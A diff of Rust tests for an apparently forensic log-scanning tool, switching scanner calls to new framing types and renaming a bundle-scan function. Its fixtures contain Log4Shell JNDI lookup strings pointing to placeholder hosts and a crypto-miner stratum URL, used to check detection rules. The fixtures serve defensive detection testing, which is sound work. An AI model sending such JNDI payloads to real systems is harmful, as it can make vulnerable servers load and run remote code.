@@ -5,8 +5,9 @@
 use std::io::Cursor;
 
 use ctriage::evidence::discover;
-use ctriage::logscan::scanner::{scan_artifact, scan_stream};
-use ctriage::logscan::{scan_bundle, Engine, LogFormat, ScanConfig};
+use ctriage::logscan::framing::{json_file::JsonFile, text::Text};
+use ctriage::logscan::stream::{scan_artifact, scan_stream};
+use ctriage::logscan::{scan_logs, Engine, ScanConfig};
 use ctriage::model::Locator;
 
 use crate::util::{run, run_json, write_files};
@@ -325,7 +326,7 @@ fn same_hits_whatever_the_buffer_size() {
     for buf in [1025, 1100, 2047, 4096, 9999, 65536, 1 << 20] {
         let cfg = ScanConfig { buf_size: buf, max_record: 1024, ..Default::default() };
         // A reader that returns few bytes at a time too.
-        let s = scan_stream(Cursor::new(data.clone()), LogFormat::Text, &e, &cfg, &loc, 0);
+        let s = scan_stream(Cursor::new(data.clone()), &Text, &e, &cfg, &loc, 0);
         let t = tuples(&s, &e);
         assert_eq!(s.newlines, data.iter().filter(|&&b| b == b'\n').count() as u64);
         match &reference {
@@ -367,10 +368,9 @@ fn parallel_chunks_give_the_same_hits_as_one_stream() {
     std::fs::write(&p, &data).unwrap();
     let bundle = discover(&p);
     let a = &bundle.artifacts[0];
-    let streamed =
-        scan_stream(Cursor::new(data.clone()), LogFormat::Text, &e, &ScanConfig::default(), &a.locator(), 0);
+    let streamed = scan_stream(Cursor::new(data.clone()), &Text, &e, &ScanConfig::default(), &a.locator(), 0);
     let cfg = ScanConfig { parallel_min: 1 << 20, ..Default::default() };
-    let chunked = scan_artifact(a, LogFormat::Text, &e, &cfg);
+    let chunked = scan_artifact(a, &Text, &e, &cfg);
     assert!(!streamed.hits.is_empty());
     assert_eq!(tuples(&chunked, &e), tuples(&streamed, &e));
     assert_eq!(chunked.newlines, streamed.newlines);
@@ -407,7 +407,7 @@ fn json_file_partial_records_are_joined_per_stream() {
     log.push_str(&json_record("next ${jndi:ldap://next.example/b}\n", "stdout", "2026-11-27T14:00:03Z"));
     let s = scan_stream(
         Cursor::new(log.into_bytes()),
-        LogFormat::JsonFile,
+        &JsonFile,
         &e,
         &ScanConfig::default(),
         &Locator::artifact("c-json.log"),
@@ -434,14 +434,7 @@ fn huge_line_is_scanned_in_bounded_records() {
     data[mid..mid + 33].copy_from_slice(b"${jndi:ldap://deep.example/a}    ");
     let end = data.len() - 40;
     data[end..end + 29].copy_from_slice(b"stratum+tcp://pool.example:3 ");
-    let s = scan_stream(
-        Cursor::new(data),
-        LogFormat::Text,
-        &e,
-        &ScanConfig::default(),
-        &Locator::artifact("h"),
-        0,
-    );
+    let s = scan_stream(Cursor::new(data), &Text, &e, &ScanConfig::default(), &Locator::artifact("h"), 0);
     let ids: Vec<&str> = s.hits.iter().map(|h| e.rules()[h.rule].id.as_str()).collect();
     assert!(ids.contains(&"log4j.jndi-lookup") && ids.contains(&"miner.stratum"), "{ids:?}");
     assert!(s.hits.iter().all(|h| h.excerpt.len() <= 400 && h.locator.line == Some(1)));
@@ -627,7 +620,7 @@ fn bundle_without_logs_gives_empty_section() {
     write_files(dir.path(), &[("notes.txt", b"nothing here\n")]);
     let bundle = discover(dir.path());
     let arts: Vec<_> = bundle.artifacts.iter().collect();
-    let s = scan_bundle(&arts, &engine());
+    let s = scan_logs(&arts, &engine());
     assert!(s.log_hits.is_empty() && s.iocs.is_empty());
 }
 
